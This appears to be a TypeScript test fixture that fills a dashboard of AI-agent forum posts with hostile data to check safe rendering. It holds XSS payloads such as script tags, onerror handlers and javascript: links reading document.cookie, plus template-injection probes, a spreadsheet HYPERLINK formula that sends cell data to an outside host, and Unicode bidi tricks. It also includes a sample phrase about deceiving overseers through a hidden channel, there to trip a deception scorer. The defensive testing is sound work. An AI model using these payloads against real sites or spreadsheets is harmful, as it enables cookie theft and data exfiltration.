import type { Content } from "./observatory";

const uuid = (kind: number, n: number) =>
  `${String(kind).repeat(8)}-0000-4000-8000-${n.toString(16).padStart(12, "0")}`;
const at = (minute: number) => new Date(Date.UTC(2026, 0, 31, 10, minute)).toISOString().replace("Z", "123+00:00");

/** A phrase for which the stand-in model gives 9 in deception_or_evasion (demo/lexicon.ts). */
export const dangerousPhrase = "we plan in the hidden channel and show them the empty one";

const script = '<script>globalThis.wasRun = true; alert("run")</script>';
const image = '<img src="https://tracker.example/pixel.png" onerror="globalThis.wasRun = true">';
const chartMarkup = '<b>Bold</b><br><a href="https://chart.example">label</a> %{x}<extra>tip</extra>';
const formula = '=HYPERLINK("https://formula.example/?x="&A1,"Click me")';

/** Names of agents and communities that try what a page, a chart or a table file does with them. */
export const hostileNames = {
  script,
  image,
  chartMarkup,
  formula,
  bidi: "\u202etxet esrever",
  emoji: "🦞👩‍🚀🏳️‍🌈",
  long: "W".repeat(180),
  path: "a/b?c=d#e&f",
} as const;
const names = Object.values(hostileNames);

const authors = names.map((name, n) => ({ id: uuid(1, n), name }));
const submolts = names.map((name, n) => ({ id: uuid(2, n), name, display_name: name, description: script }));

/** What posts say: title and text. */
const texts: { title: string; content: string; url?: string }[] = [
  {
    title: `${script} hello`,
    content: `${image} ${script} <iframe src="https://frame.example"></iframe><style>body{display:none}</style>`,
  },
  {
    title: "[free karma](javascript:alert(1))",
    content:
      "Click [here](javascript:alert(document.cookie)) or ![pixel](https://tracker.example/pixel.png) or do not.",
    url: "javascript:alert(document.domain)",
  },
  { title: chartMarkup, content: `${chartMarkup} $\\frac{1}{2}$ {{7*7}} <%= 7*7 %>` },
  { title: formula, content: "+1+1\n-2\n@SUM(1+1)\n\t=1+1" },
  {
    title: "This title turns \u202earound\u202c",
    content: `Right to left: \u202egnihton\u202c. ${"\u200b".repeat(5_000)} No end: \u202e`,
  },
  { title: "🦞".repeat(60), content: "Zero\u200bwidth\ufeff and half a \ud83e pair, and a\u0007bell." },
  { title: "w".repeat(250), content: `${"Abcdefghij".repeat(200)} https://long.example/${"path/".repeat(300)}` },
  { title: "", content: "" },
];

/** 70,000 characters with the words that the score rests on at their end, beside what must not run. */
export const longText = `${script} ${"word and word ".repeat(4_990)}${dangerousPhrase} ${image}`.padEnd(70_000, ".");

export const longPostId = uuid(3, 1_000);
export const threadPostId = uuid(3, 1_001);
/** A thread of several pages: 300 replies one below the other, then ten at a time. */
export const threadSize = 420;
export const deepReplyId = uuid(4, 299);

const posts = [
  ...texts.map((text, n) => ({ id: uuid(3, n), ...text })),
  { id: longPostId, title: "The unabridged edition", content: longText },
  { id: threadPostId, title: "A thread without end", content: "Answer, and answer the answer." },
].map((post, n) => ({
  upvotes: n,
  downvotes: 0,
  comment_count: post.id === threadPostId ? threadSize : 1,
  created_at: at(n),
  author: authors[n % authors.length],
  submolt: submolts[n % submolts.length],
  ...post,
}));

const comments = [
  // One below each hostile post, dangerous itself.
  ...texts.map((_, n) => ({
    id: uuid(5, n),
    post_id: uuid(3, n),
    parent_id: null,
    content: `${script} ${dangerousPhrase} ${image} https://user@evil.example/login`,
  })),
  { id: uuid(5, 100), post_id: longPostId, parent_id: null, content: "Too long." },
  ...Array.from({ length: threadSize }, (_, n) => ({
    id: uuid(4, n),
    post_id: threadPostId,
    parent_id: n === 0 || (n >= 300 && n % 10 === 0) ? null : uuid(4, n - 1),
    content: n === 299 ? `At the bottom: ${dangerousPhrase}.` : `Answer number ${n}.`,
  })),
].map((comment, n) => ({
  upvotes: 0,
  downvotes: 0,
  created_at: at(100 + n),
  author: authors[n % authors.length],
  ...comment,
}));

export const hostileContent: Content = {
  posts,
  comments,
  submolts,
  agents: authors.map((author) => ({ ...author, description: `${script} ${image} ${chartMarkup}`, karma: 1 })),
};
